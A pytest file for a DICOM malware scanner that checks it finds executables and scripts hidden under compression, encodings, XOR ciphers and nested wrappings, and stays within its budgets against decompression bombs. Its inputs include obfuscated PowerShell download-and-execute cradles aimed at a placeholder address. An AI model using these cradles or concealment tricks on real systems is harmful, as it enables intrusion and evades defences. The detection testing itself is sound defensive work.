"""What is wrapped is found: any wrapping around any payload, at its place, within the budgets."""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import lzma
import random
import resource
import sys
import tarfile
import time
import zipfile
import zlib
from collections.abc import Callable
from struct import pack

import pytest
from hypothesis import given
from hypothesis import settings as effort
from hypothesis import strategies as st

from dicomguard import Finding, Report, ScanSettings, Verdict, scan_bytes, unwrap
from dicomguard.dicom.budgets import Budgets
from dicomguard.dicom.source import Source
from dicomguard.dicom.walker import walk
from dicomguard.engine import ENGINES
from dicomguard.gather import Gathered
from dicomguard.model import Region
from dicomguard.patterns import MATCH_LIMIT
from dicomguard.payloads.wrappings import (
    ADD,
    BY_MAGIC,
    BY_PLAINTEXT,
    BY_SEARCH,
    BY_VALUE,
    XOR,
    XORED_WORDS,
    Allowance,
    is_structured,
)
from dicomguard.reports.model import FileRecord
from dicomguard.reports.text import TextReport
from fixtures.carriers import carrier, document, with_pixels
from fixtures.dicomfile import (
    PRIVATE_TAG,
    element,
    private,
    tag_text,
)
from fixtures.executables import DOS_STUB_TEXT, elf, launcher, tiny_pe
from fixtures.formats import EICAR, INERT_TEXT, SCRIPTS, gzip_stored, noise, pdf, zip_archive

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

COMMENTS = 0x00204000
LETTERS = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
HONEST_TEXT = b"\n".join(b"%d: the quick brown fox jumps over the lazy dog" % n for n in range(99))

PAYLOADS = {
    "EMB-PE": tiny_pe(),
    "EMB-ELF": elf("x86_64"),
    "EMB-EICAR": EICAR,
    "EMB-SCRIPT": SCRIPTS["vbscript"],
}
"""By the id of the finding."""


# ---------------------------------------------------------------------- the wrappings


def raw_deflate(content: bytes) -> bytes:
    return zlib.compress(content, wbits=-zlib.MAX_WBITS)


def zipped(content: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("member", content)
    return buffer.getvalue()


def tarred(content: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("member")
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def in_lines(text: bytes, width: int, end: bytes) -> bytes:
    return end.join(text[at : at + width] for at in range(0, len(text), width))


def uuencoded(content: bytes) -> bytes:
    lines = [binascii.b2a_uu(content[at : at + 45]) for at in range(0, len(content), 45)]
    return b"begin 644 x\n" + b"".join(lines) + b"`\nend\n"


def keyed(content: bytes, key: bytes, combine: Callable[[int, int], int]) -> bytes:
    return bytes(combine(byte, key[at % len(key)]) for at, byte in enumerate(content))


def xored(content: bytes, key: bytes) -> bytes:
    return keyed(content, key, lambda byte, part: byte ^ part)


def added(content: bytes, key: bytes) -> bytes:
    return keyed(content, key, lambda byte, part: (byte + part) & 0xFF)


def rotated(content: bytes, bits: int) -> bytes:
    return bytes((byte << bits | byte >> 8 - bits) & 0xFF for byte in content)


def swapped(content: bytes, width: int) -> bytes:
    content += bytes(-len(content) % width)
    return b"".join(content[at : at + width][::-1] for at in range(0, len(content), width))


def _named_gzip(content: bytes) -> bytes:
    body = gzip.compress(content, mtime=0)
    header = body[:3] + b"\x1e" + body[4:10]
    return header + pack("<H", 4) + b"xtra" + b"name\0" + b"comment\0" + b"\0\0" + body[10:]


def _small_zlib(content: bytes) -> bytes:
    deflater = zlib.compressobj(wbits=9)
    return deflater.compress(content) + deflater.flush()


def even(content: bytes) -> bytes:
    """As the value of an element would be padded."""
    return content + bytes(len(content) % 2)


WRAPPINGS: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "gzip": ("gzip", gzip.compress),
    "gzip with a name": ("gzip", _named_gzip),
    "zlib": ("zlib", zlib.compress),
    "zlib, small window": ("zlib", _small_zlib),
    "deflate": ("deflate", raw_deflate),
    "length, deflate": ("deflate", lambda c: pack("<I", len(c)) + raw_deflate(c)),
    "bzip2": ("bzip2", bz2.compress),
    "xz": ("xz", lzma.compress),
    "lzma": ("lzma", lambda c: lzma.compress(c, lzma.FORMAT_ALONE)),
    "zstd": ("zstd", zstd.compress),
    "zip": ("zip", zipped),
    "zip, stored": ("zip", lambda c: zipped(c, zipfile.ZIP_STORED)),
    "tar": ("tar", tarred),
    "base64": ("base64", base64.b64encode),
    "base64 behind a character": ("base64", lambda c: b"x" + base64.b64encode(c)),
    "base64 for URLs": ("base64", base64.urlsafe_b64encode),
    "base64 in lines": ("base64", base64.encodebytes),
    "base64, indented": (
        "base64", lambda c: b"<x>\n    " + in_lines(base64.b64encode(c), 64, b"\n    ") + b"</x>"
    ),
    "base64 in values": ("base64", lambda c: in_lines(base64.b64encode(c), 16, b"\\")),
    "base32": ("base32", base64.b32encode),
    "base32, lower case": ("base32", lambda c: base64.b32encode(c).lower()),
    "base85": ("base85", base64.b85encode),
    "ascii85": ("ascii85", base64.a85encode),
    "ascii85 of Adobe": ("ascii85", lambda c: base64.a85encode(c, adobe=True, wrapcol=75)),
    "hex": ("hex", binascii.hexlify),
    "hex, spaced": ("hex", lambda c: c.hex(" ").upper().encode()),
    "hex of BitConverter": ("hex", lambda c: c.hex("-").upper().encode()),
    "hex of C": ("hex", lambda c: b", ".join(b"0x%02X" % byte for byte in c)),
    "hex of a shell": ("hex", lambda c: b"".join(b"\\x%02x" % byte for byte in c)),
    "decimal": ("decimal", lambda c: b",".join(b"%d" % byte for byte in c)),
    "decimal in values": ("decimal", lambda c: b"\\".join(b"%d" % byte for byte in c)),
    "uuencode": ("uuencode", uuencoded),
    "UTF-16 LE": ("UTF-16", lambda c: c.decode("latin-1").encode("utf-16-le")),
    "UTF-16 BE": ("UTF-16", lambda c: c.decode("latin-1").encode("utf-16-be")),
    "xor 1": ("xor 0x5A", lambda c: xored(c, b"\x5a")),
    "xor 0xFF": ("xor 0xFF", lambda c: xored(c, b"\xff")),
    "add 0xC8": ("add 0xC8", lambda c: added(c, b"\xc8")),
    **{
        f"rotate {bits}": (f"rotate {bits}", lambda c, bits=bits: rotated(c, bits))
        for bits in range(1, 8)
    },
    "reversed": ("reversed", lambda c: c[::-1]),
    "swapped 16": ("swapped 16", lambda c: swapped(c, 2)),
    "swapped 32": ("swapped 32", lambda c: swapped(c, 4)),
}  # fmt: skip
"""By name: what the chain calls it, and how to do it."""

KEYED = {
    "add 1": ("add 0x03", lambda c: added(c, b"\x03")),
    "xor 2": ("xor 0x5AC3", lambda c: xored(c, b"\x5a\xc3")),
    "xor 4": ("xor 0x5AC30118", lambda c: xored(c, b"\x5a\xc3\x01\x18")),
    "add 4": ("add 0x0B70FE01", lambda c: added(c, b"\x0b\x70\xfe\x01")),
}
"""A longer key, or one that leaves text readable, shows only by plaintext that is known."""


# ---------------------------------------------------------------------- found


def threats(report: Report) -> list[Finding]:
    return [each for each in report.findings if str(each.kind.category) == "malware"]


def said(report: Report) -> str:
    return "\n".join(f"{each.kind.id} {each.place}" for each in report.findings)


def found(report: Report, id_: str, chain: tuple[str, ...]) -> Finding:
    """The one finding of that id, which must have that chain."""
    hits = [each for each in threats(report) if each.kind.id == id_]
    assert [each.place.chain for each in hits] == [chain], said(report)
    return hits[0]


CASES = [
    pytest.param(chain, wrap, id_, id=f"{name}-{id_}")
    for name, (chain, wrap) in WRAPPINGS.items()
    for id_ in PAYLOADS
] + [
    pytest.param(chain, wrap, id_, id=f"{name}-{id_}")
    for name, (chain, wrap) in KEYED.items()
    for id_ in ("EMB-PE", "EMB-ELF", "EMB-EICAR")
]


@pytest.mark.parametrize(("chain", "wrap", "id_"), CASES)
def test_a_wrapped_payload_is_found_where_it_is(
    chain: str, wrap: Callable[[bytes], bytes], id_: str
) -> None:
    wrapped = wrap(PAYLOADS[id_])
    data = carrier().with_(*private(wrapped)).data
    report = scan_bytes(data)
    finding = found(report, id_, (chain,))
    place = finding.place
    start = data.index(wrapped)
    assert (place.region, place.tag_path) == (Region.PRIVATE, tag_text(PRIVATE_TAG))
    assert start <= place.offset < start + len(wrapped)
    assert place.inner_offset is not None
    assert 0 <= place.inner_offset <= 64
    assert finding.evidence
    assert report.verdict is Verdict.MALICIOUS
    assert report.complete


@pytest.mark.parametrize("name", [name for name in WRAPPINGS if name != "uuencode"])
def test_a_wrapping_around_honest_text_is_silent(name: str) -> None:
    _, wrap = WRAPPINGS[name]
    report = scan_bytes(carrier().with_(*private(wrap(HONEST_TEXT))).data)
    archives = {"EMB-ARCHIVE"} if name.startswith(("zip", "tar")) else set()
    assert {each.kind.id for each in threats(report)} == archives
    assert report.complete


@pytest.mark.parametrize("name", list(WRAPPINGS))
def test_a_wrapping_of_noise_is_silent(name: str) -> None:
    chain, wrap = WRAPPINGS[name]
    report = scan_bytes(carrier().with_(*private(wrap(noise(3000)))).data)
    archives = {"EMB-ARCHIVE"} if chain in ("zip", "tar") else set()
    assert {each.kind.id for each in threats(report)} == archives
    assert report.complete


@pytest.mark.parametrize("engine", list(ENGINES))
@pytest.mark.parametrize("name", [*WRAPPINGS, *KEYED])
def test_the_engines_agree(name: str, engine: str) -> None:
    _, wrap = (WRAPPINGS | KEYED)[name]
    data = carrier().with_(*private(wrap(tiny_pe()))).data
    report = scan_bytes(data, settings=ScanSettings(engine=engine))
    assert sorted(map(repr, report.findings)) == sorted(map(repr, scan_bytes(data).findings))


@pytest.mark.parametrize(
    "script",
    [
        b"p^o^w^e^r^s^h^e^l^l -n^o^p -w h^i^d^d^e^n -e^n^c SQBFAFgA",
        b"$a = 'Fro'+'mBase64String' ; $b = 'New-Ob'+'ject Net.Web'+'Client'",
        b"i`e`x (New`-Obj`ect Net.WebC`li`ent).Downl`oadStr`ing('http://192.0.2.1/')",
        b'x = "WScr" & "ipt.Shell" : CreateObj" & "ect(x)',
    ],
)
def test_words_of_a_command_are_put_together(script: bytes) -> None:
    report = scan_bytes(carrier().with_(*private(script)).data)
    found = [each for each in report.findings if each.kind.id == "EMB-SCRIPT"]
    assert ("broken words",) in {each.place.chain for each in found}
    assert report.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "text", [b"Doe^Jane^A^B^C^D^E", b"'a'+'b' and `T1` or `T2`", b'{"a":"b"+"c"} x^2^y^3^z^4^a']
)
def test_words_that_are_parted_in_honest_text_are_silent(text: bytes) -> None:
    report = scan_bytes(carrier().with_(*private(text * 8)).data)
    assert report.verdict is Verdict.CLEAN


def test_every_wrapping_is_proven() -> None:
    names = {chain.split(" 0x")[0] for chain, _ in WRAPPINGS.values()}
    tables = {*BY_MAGIC, *(name.replace("_", " ") for name in BY_PLAINTEXT)}
    tables = {name.replace("rotated", "rotate").replace("xored", "xor") for name in tables}
    assert tables < names
    assert len(BY_SEARCH) + len(BY_VALUE) == 12
    assert {"zlib", "deflate", "base64", "base32", "base85", "ascii85", "hex", "decimal",
            "uuencode", "UTF-16", "xor", "add"} < names  # fmt: skip


# ---------------------------------------------------------------------- places


def wide(content: bytes) -> bytes:
    return content.decode("ascii").encode("utf-16-le")


CHAINS: dict[tuple[str, ...], bytes] = {
    ("base64", "gzip"): base64.b64encode(gzip.compress(tiny_pe())),
    ("gzip", "base64"): gzip.compress(base64.b64encode(tiny_pe())),
    ("hex", "xor 0x55"): binascii.hexlify(xored(tiny_pe(), b"\x55")),
    ("UTF-16", "base64", "zlib"): wide(base64.b64encode(zlib.compress(tiny_pe()))),
    ("xz", "tar", "zip", "xor 0x07"): lzma.compress(tarred(zipped(xored(tiny_pe(), b"\7")))),
}


@pytest.mark.parametrize("chain", list(CHAINS), ids=" ".join)
def test_wrappings_within_wrappings_are_undone(chain: tuple[str, ...]) -> None:
    report = scan_bytes(carrier().with_(*private(CHAINS[chain])).data)
    found(report, "EMB-PE", chain)
    assert report.complete


def wrapped_times(count: int, content: bytes) -> bytes:
    for _ in range(count):
        content = base64.b64encode(content)
    return content


def test_four_wrappings_are_undone_and_a_fifth_is_reported() -> None:
    report = scan_bytes(carrier().with_(*private(wrapped_times(4, tiny_pe()))).data)
    found(report, "EMB-PE", ("base64",) * 4)
    assert report.complete
    report = scan_bytes(carrier().with_(*private(wrapped_times(5, INERT_TEXT * 2))).data)
    assert report.verdict is Verdict.INCOMPLETE
    assert report.unexamined == ("wrapped more than 4 times over",)


GZIPPED = gzip.compress(tiny_pe())


PLACES: dict[str, tuple[Region, str, bytes]] = {
    "comments": (
        Region.DATASET, "(0020,4000)",
        carrier().with_(element(COMMENTS, "LT", base64.b64encode(tiny_pe()))).data,
    ),
    "document": (Region.DOCUMENT, "(0042,0011)", document(GZIPPED).data),
    "tail": (Region.TAIL, "", carrier().but(tail=base64.b64encode(GZIPPED)).data),
    "pixels": (
        Region.PIXELS, "(7FE0,0010)",
        with_pixels(carrier(), noise(5000) + GZIPPED + noise(5000)).data,
    ),
    "pixels under XOR": (
        Region.PIXELS, "(7FE0,0010)",
        with_pixels(carrier(), noise(5001) + xored(launcher(), b"\x42") + noise(5000)).data,
    ),
    "far in a value": (
        Region.PRIVATE, "(0009,1001)",
        carrier().with_(*private(noise(4321) + zlib.compress(tiny_pe()) + noise(999))).data,
    ),
    "no DICOM": (Region.GAP, "", noise(77) + GZIPPED),
}  # fmt: skip


@pytest.mark.parametrize("name", list(PLACES))
def test_a_wrapping_is_found_in_every_place(name: str) -> None:
    region, path, data = PLACES[name]
    hits = [each for each in threats(scan_bytes(data)) if each.kind.id == "EMB-PE"]
    assert [(each.place.region, each.place.tag_path) for each in hits] == [(region, path)]
    assert hits[0].place.chain


def test_in_a_deflated_data_set_the_place_is_that_of_the_stream() -> None:
    file = carrier("image_dfl.dcm").with_(*private(even(GZIPPED)))
    finding = found(scan_bytes(file.data), "EMB-PE", ("gzip",))
    assert finding.place.offset == len(file.head)
    assert (finding.place.tag_path, finding.place.inner_offset) == ("(0009,1001)", 0)


def test_the_offset_is_that_of_the_run_and_the_inner_one_that_in_the_content() -> None:
    wrapped = gzip.compress(INERT_TEXT + tiny_pe())
    data = carrier().with_(*private(noise(64) + wrapped)).data
    place = found(scan_bytes(data), "EMB-PE", ("gzip",)).place
    assert (place.offset, place.inner_offset) == (data.index(wrapped), len(INERT_TEXT))
    assert place.length == len(tiny_pe())


@pytest.mark.parametrize("alignment", range(4))
@pytest.mark.parametrize("name", ["xor 4", "add 4", "swapped 32", "swapped 16"])
def test_a_cipher_is_seen_at_any_alignment(name: str, alignment: int) -> None:
    chain, wrap = (WRAPPINGS | KEYED)[name]
    for content, id_ in ((tiny_pe(), "EMB-PE"), (elf("x86_64"), "EMB-ELF")):
        value = noise(1000 + alignment) + wrap(content)
        report = scan_bytes(carrier().with_(*private(value)).data)
        hits = [each.place.chain for each in threats(report) if each.kind.id == id_]
        assert [each[0].split(" ")[0] for each in hits] == [chain.split(" ")[0]], said(report)


def test_two_wrapped_side_by_side_are_two() -> None:
    value = base64.b64encode(GZIPPED + gzip.compress(tiny_pe() + b"\0"))
    report = scan_bytes(carrier().with_(*private(value)).data)
    hits = [each.place.chain for each in threats(report) if each.kind.id == "EMB-PE"]
    assert hits == [("base64", "gzip")] * 2


def test_what_a_stored_member_holds_is_said_once() -> None:
    data = carrier().with_(*private(zip_archive({"a.exe": tiny_pe()}))).data
    assert {(each.kind.id, each.place.chain) for each in threats(scan_bytes(data))} == {
        ("EMB-ARCHIVE", ()),
        ("EMB-PE", ("zip",)),
    }


@pytest.mark.parametrize("key", [b"\x5a", b"\x5a\xc3\x01\x18"])
def test_a_stub_under_a_cipher_without_its_program_is_reported_at_its_place(key: bytes) -> None:
    value = noise(100) + xored(DOS_STUB_TEXT + b"\r\r\n$", key) + noise(100)
    data = carrier().with_(*private(value)).data
    (finding,) = threats(scan_bytes(data))
    assert finding.kind.id == "EMB-ENC-XOR"
    assert finding.place.offset == data.index(value) + 100
    assert finding.place.length == len("This program cannot be run in DOS mode")
    assert finding.place.chain == ()


def test_a_document_within_a_document_is_where_it_belongs() -> None:
    file = document(b"<nonXMLBody>" + base64.b64encode(pdf()) + b"</nonXMLBody>")
    assert threats(scan_bytes(file.data)) == []


def test_text_that_was_unwrapped_is_masked() -> None:
    data = carrier().with_(*private(gzip.compress(SCRIPTS["vbscript"]))).data
    assert found(scan_bytes(data), "EMB-SCRIPT", ("gzip",)).masked
    data = carrier().with_(*private(GZIPPED)).data
    assert not found(scan_bytes(data), "EMB-PE", ("gzip",)).masked


# ---------------------------------------------------------------------- damaged on purpose


@pytest.mark.parametrize("name", ["gzip", "zlib", "xz", "lzma"])
def test_a_stream_with_a_damaged_end_is_unwrapped_as_far_as_it_goes(name: str) -> None:
    chain, wrap = WRAPPINGS[name]
    wrapped = wrap(tiny_pe() + noise(200))
    for damaged in (wrapped[:-9], wrapped[:-9] + bytes(9)):
        report = scan_bytes(carrier().with_(*private(damaged)).data)
        found(report, "EMB-PE", (chain,))


def test_an_encrypted_member_is_left_alone() -> None:
    archive = bytearray(zipped(tiny_pe()))
    for flags in (6, archive.index(b"PK\1\2") + 8):
        archive[flags] |= 1
    report = scan_bytes(carrier().with_(*private(bytes(archive))).data)
    assert {each.kind.id for each in threats(report)} == {"EMB-ARCHIVE"}


# ---------------------------------------------------------------------- bombs


BOMBS: dict[str, Callable[[bytes], bytes]] = {
    "gzip twice": lambda zeros: gzip.compress(gzip.compress(zeros)),
    "bzip2": bz2.compress,
    "xz": lambda zeros: lzma.compress(zeros, preset=0),
    "zstd": zstd.compress,
    "zip": zipped,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(BOMBS))
def test_a_bomb_is_incomplete(name: str) -> None:
    bomb = BOMBS[name](bytes(200 << 20))
    report = scan_bytes(carrier().with_(*private(bomb)).data)
    assert report.verdict >= Verdict.INCOMPLETE
    assert "grows beyond the budget" in report.unexamined[0]


def test_a_bomb_costs_no_more_than_the_budget() -> None:
    """The budget is checked while a stream is inflated, not after."""
    settings = ScanSettings(budgets=Budgets(unwrapped_bytes=1 << 20))
    bomb = gzip.compress(bytes(64 << 20))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    report = scan_bytes(carrier().with_(*private(bomb)).data, settings=settings)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert report.verdict is Verdict.INCOMPLETE
    assert grown < 32 << 10


def test_a_dictionary_beyond_memory_is_reported() -> None:
    stream = bytearray(lzma.compress(INERT_TEXT, lzma.FORMAT_ALONE))
    stream[1:5] = pack("<I", 1 << 30)
    report = scan_bytes(carrier().with_(*private(bytes(stream))).data)
    assert report.unexamined == ("a compressed stream asks for more memory than is allowed",)


def test_archives_within_archives_end() -> None:
    archive = zipped(zipped(zipped(zipped(zipped(zipped(noise(64)))))), zipfile.ZIP_STORED)
    report = scan_bytes(carrier().with_(*private(archive)).data)
    assert "wrapped more than 4 times over" in report.unexamined


def test_a_flood_of_wrapped_pieces_is_reported() -> None:
    settings = ScanSettings(budgets=Budgets(unwrapped_payloads=50))
    data = carrier().with_(*private(gzip_stored(INERT_TEXT) * 51)).data
    report = scan_bytes(data, settings=settings)
    assert report.verdict is Verdict.INCOMPLETE
    assert scan_bytes(data).verdict is Verdict.CLEAN


def test_time_is_a_budget() -> None:
    settings = ScanSettings(budgets=Budgets(unwrap_seconds=0.0))
    report = scan_bytes(carrier().with_(*private(GZIPPED)).data, settings=settings)
    assert report.verdict is Verdict.INCOMPLETE


FLOODS = {
    "zlib headers": b"\x78\x9c" * 50_000,
    "gzip headers": b"\x1f\x8b\x08\0" * 25_000,
    "zip headers": b"PK\3\4" * 25_000,
    "ELF under XOR": xored(elf("x86_64")[:24], b"\x11") * 2000,
    "begin": b"begin 644 x\n" * 8000,
    "short lines": (b"A" * 47 + b"b \n") * 2000,
    "list": b"0, " * 30_000,
}


@pytest.mark.parametrize("name", list(FLOODS))
def test_a_flood_of_triggers_costs_little(name: str) -> None:
    data = carrier().with_(*private(FLOODS[name])).data
    started = time.process_time()
    scan_bytes(data)
    assert time.process_time() - started < 20


# ---------------------------------------------------------------------- whatever comes


def allowance() -> Allowance:
    return Allowance(room=1 << 20, largest=1 << 20, payloads=100, deadline=time.monotonic() + 60)


FRAGMENTS = [
    b"\x1f\x8b\x08\x1f", b"\x78\x9c", b"PK\3\4\x14\0\0\0\x08\0", b"BZh91AY&SY", b"\xfd7zXZ\0",
    b"\x28\xb5\x2f\xfd", b"\x5d\0\0\x80\0" + b"\xff" * 8 + b"\0", b"ustar\0" + b"00",
    b"begin 644 x\n",
    b"A" * 64, b"Ab0/" * 16, b"4D " * 30, b"77," * 40, b"a\0" * 30, b"<~" + b"9jqo^" * 20 + b"~>",
    xored(DOS_STUB_TEXT, b"\x21"), DOS_STUB_TEXT[::-1], rotated(EICAR, 3), bytes(70), b"\xff" * 70,
]  # fmt: skip


@effort(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.binary(max_size=40), st.sampled_from(FRAGMENTS)), max_size=12))
def test_an_unwrapper_never_raises_and_stays_in_its_bounds(parts: list[bytes]) -> None:
    data = b"".join(parts)
    low, high = len(data) // 8, len(data) - len(data) // 9
    unwrappers = [*BY_MAGIC.values(), *BY_PLAINTEXT.values(), *BY_SEARCH, *BY_VALUE]
    hits = sorted(
        {low, *(low + at for wrapping in BY_SEARCH for at in wrapping.search(data[low:high]))}
    )
    for wrapping in unwrappers:
        for hit in hits:
            if not low <= hit < high:
                continue
            for wrapped in wrapping.unwrap(data, hit, low, high, allowance()):
                assert low <= wrapped.start <= wrapped.end <= high
                assert len(wrapped.content) <= 1 << 20
                if wrapped.is_verbatim:
                    assert wrapped.content == data[wrapped.end - len(wrapped.content) : wrapped.end]
    for cipher in (XOR, ADD, XORED_WORDS):
        for hit, number in cipher.search(data[low:high], allowance()):
            for wrapped in cipher.unwrap(data, low + hit, low, high, allowance(), number=number):
                assert low <= wrapped.start <= wrapped.end <= high


@effort(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.binary(max_size=60), st.sampled_from(FRAGMENTS)), max_size=12))
def test_anything_in_a_value_gets_a_report(parts: list[bytes]) -> None:
    budgets = Budgets(unwrapped_bytes=1 << 20)
    data = carrier().with_(*private(even(b"".join(parts)))).data
    report = scan_bytes(data, settings=ScanSettings(budgets=budgets))
    assert all(len(each.place.chain) <= budgets.unwrap_depth for each in report.findings)


# ---------------------------------------------------------------------- pixels that are letters


def letters(alphabet: bytes, *, size: int = 1 << 16) -> bytes:
    """Pixels of middling grey: characters of a text, without any order."""
    return bytes(random.Random(0).choices(alphabet, k=size))


def pieces_of(pixels: bytes) -> list[unwrap.Piece]:
    data = with_pixels(carrier(), pixels).data
    layout = walk(data)
    gathered = Gathered(Source(data=data, layout=layout, file=layout))
    return list(unwrap.pieces(gathered, [], allowance(), Budgets()))


@pytest.mark.parametrize("alphabet", [bytes(range(0x21, 0x76)), LETTERS, b"_", b"AAAAAAAAAAAAB"])
def test_what_looks_like_nothing_among_pixels_is_not_followed(alphabet: bytes) -> None:
    rows = b"\xff".join(letters(alphabet, size=300) for _ in range(200))
    assert not pieces_of(rows)


@pytest.mark.parametrize("before", [0, 1, 2, 3, 203, 1000])
def test_a_program_in_base64_among_letters_is_found(before: int) -> None:
    grey = letters(LETTERS)
    pixels = grey[:before] + base64.b64encode(launcher()) + grey[:50_000]
    report = scan_bytes(with_pixels(carrier(), b"\xff" * 64 + pixels).data)
    found(report, "EMB-PE", ("base64",))


@pytest.mark.parametrize("before", [b"", b"A", b"zz", b"<<<", b"1234", b"payload="])
@pytest.mark.parametrize("encode", [base64.b85encode, base64.a85encode])
@pytest.mark.parametrize("id_", list(PAYLOADS))
def test_a_text_in_base_85_begins_anywhere(
    id_: str, encode: Callable[[bytes], bytes], before: bytes
) -> None:
    value = noise(64) + b"\xff" + before + encode(PAYLOADS[id_])
    report = scan_bytes(carrier().with_(*private(even(value))).data)
    assert id_ in [each.kind.id for each in report.findings]


@pytest.mark.parametrize("key", [0, 0x5A])
@pytest.mark.parametrize("size", [64, 256, 4096])
def test_noise_is_no_structure_and_text_is_under_any_key(size: int, key: int) -> None:
    text = xored((INERT_TEXT * 99)[:size], bytes([key]))
    assert is_structured(text)
    assert is_structured(noise(2048) + text)
    assert not is_structured(noise(size))
    assert not is_structured(bytes([key]) * size)


def test_a_flood_of_headers_hides_none() -> None:
    header = b"\x78\x9c"
    (zlib_,) = [each for each in BY_SEARCH if not each.is_text]
    flood = header * (MATCH_LIMIT + 1)
    assert sum(1 for _ in zlib_.search(flood)) == MATCH_LIMIT + 1
    assert list(zlib_.search(b"\0" * (MATCH_LIMIT - 1) + header)) == [MATCH_LIMIT - 1]


@pytest.mark.slow
def test_a_program_across_two_windows_is_found() -> None:
    """A large file is looked through in parts, and mapped rather than read."""
    for shift in (-200, -90, -60, -3, 0, 1):
        data = carrier().data
        data += bytes((1 << 26) - len(data) + shift) + xored(tiny_pe(), b"\x55")
        found(scan_bytes(data), "EMB-PE", ("xor 0x55",))


@pytest.mark.parametrize("size", [300, 70_000])
@pytest.mark.parametrize("key", [b"\x01", b"\x80", b"\xff", b"\0\0\0\x01", b"\x12\x34"])
def test_plaintext_is_seen_under_any_key_where_it_is(key: bytes, size: int) -> None:
    content = noise(size) + DOS_STUB_TEXT + noise(size)
    key = (key * 4)[:4]
    for cipher, wrap in ((XOR, xored), (ADD, added)):
        (plain,) = cipher.search(content, allowance())
        assert plain[0] == size
        assert list(cipher.search(wrap(content, key), allowance())) == [plain]


@pytest.mark.parametrize("key", range(1, 256, 7))
def test_a_word_is_seen_under_any_byte(key: int) -> None:
    hidden = xored(noise(99) + b"powershell.exe" + noise(99), bytes([key]))
    hits = list(XORED_WORDS.search(hidden, allowance()))
    (wrapped,) = (
        each
        for hit, number in hits
        for each in XORED_WORDS.unwrap(hidden, hit, 0, len(hidden), allowance(), number=number)
    )
    assert {hit for hit, _ in hits} == {99}
    assert b"powershell.exe" in wrapped.content
    assert wrapped.name == f"xor 0x{key:02X}"


def test_a_report_shows_the_chain(capsys: pytest.CaptureFixture[str]) -> None:
    report = scan_bytes(carrier().with_(*private(CHAINS["base64", "gzip"])).data)
    (finding,) = [each for each in report.findings if each.kind.id == "EMB-PE"]
    record = FileRecord.of(report)
    assert finding.place.chain == ("base64", "gzip")
    TextReport(sys.stdout).file(record, named=True)
    shown = "".join(capsys.readouterr().out.split())
    path = "private(0009,1001)\u203abase64\u203agzip"
    assert f"{path},offset{finding.place.offset}" in shown
